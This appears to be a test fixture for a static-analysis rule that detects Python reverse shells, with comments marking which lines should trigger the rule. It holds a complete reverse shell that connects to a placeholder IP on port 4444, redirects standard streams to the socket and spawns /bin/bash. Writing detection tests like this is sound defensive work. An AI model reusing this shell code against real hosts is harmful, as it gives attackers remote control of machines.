"""Fixture for python.proc.reverse_shell: `ruleid` lines must produce it, `ok` lines must not."""

raise SystemExit("codeward rule fixture: read by the analyzer, never run")

import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: python.proc.reverse_shell
s.connect(("203.0.113.9", 4444))
# ok: python.proc.reverse_shell
s.send(b"ready")
# ruleid: python.proc.reverse_shell
os.dup2(s.fileno(), 0)
# ruleid: python.proc.reverse_shell
os.dup2(s.fileno(), 1)
# ruleid: python.proc.reverse_shell
os.dup2(s.fileno(), 2)
# ruleid: python.proc.reverse_shell
pty.spawn("/bin/bash")
